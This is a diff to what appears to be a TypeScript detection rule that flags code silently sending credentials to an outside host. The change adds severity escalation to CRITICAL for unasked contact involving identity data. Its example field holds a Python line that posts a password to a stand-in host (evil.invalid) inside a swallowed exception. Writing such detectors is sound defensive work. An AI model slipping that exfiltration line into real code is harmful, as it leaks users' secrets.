@@ -174,11 +174,12 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
       technique: 'T1056',
     },
-    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, text }) => {
+    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, text, reach }) => {
       if (behaviour !== 'contacts' || host === undefined) return undefined;
       if (isDropped !== true || isQuiet !== true) return undefined;
       // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
-      if (LOOKUP.test(name) && (text ?? '').startsWith('\uFFFC')) return 'HIGH';
+      if (LOOKUP.test(name) && (text ?? '').startsWith('\uFFFC'))
+        return isUnasked(reach) && count(labels, IDENTITY) > 0 ? 'CRITICAL' : 'HIGH';
       return labels.has('credential') || labels.has('secret') ? 'MEDIUM' : undefined;
     },
     message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
